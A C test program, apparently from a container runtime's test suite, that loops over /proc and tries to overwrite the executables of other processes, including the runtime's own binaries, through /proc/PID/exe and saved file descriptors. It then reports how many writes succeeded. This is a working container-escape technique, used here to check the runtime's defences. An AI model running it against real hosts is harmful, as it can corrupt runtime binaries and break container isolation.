/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attack - try to write to the executable of every process that appears
 *
 *   attack STOP-FILE
 *
 * Runs in a container that shares its pid namespace with others. Until STOP-FILE exists: opens
 * /proc/PID/exe of every other process, for writing; and for reading, to write through
 * /proc/self/fd once the process is gone and the file no longer busy. Prints `seen N kept N written
 * N davit N`: processes, descriptors got, successful writes, and writes to something of the
 * runtime's. */

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static unsigned long seen, kept, written, runtime;

static void try_write(const char *path, const char *target)
{
	static const char text[] = "overwritten";
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, text, sizeof(text)) > 0) {
		written++;
		fprintf(stderr, "written: %s\n", target);
	}
	close(fd);
}

static void attack_process(const char *pid)
{
	char path[64], target[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return;
	target[n] = 0;
	seen++;
	/* its own root file system's programs are the container's to destroy */
	if (!strstr(target, "davit") && !strstr(target, "memfd"))
		return;
	runtime++;
	try_write(path, target);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	kept++;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200; i++)
		try_write(path, target);
	close(fd);
}

int main(int argc, char **argv)
{
	char self[16];

	if (argc != 2)
		return 2;
	snprintf(self, sizeof(self), "%d", getpid());
	puts("ready");
	fflush(stdout);
	while (access(argv[1], F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		if (!proc)
			return 1;
		while ((entry = readdir(proc)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, self) != 0)
				attack_process(entry->d_name);
		closedir(proc);
	}
	printf("seen %lu kept %lu written %lu davit %lu\n", seen, kept, written, runtime);
	return 0;
}
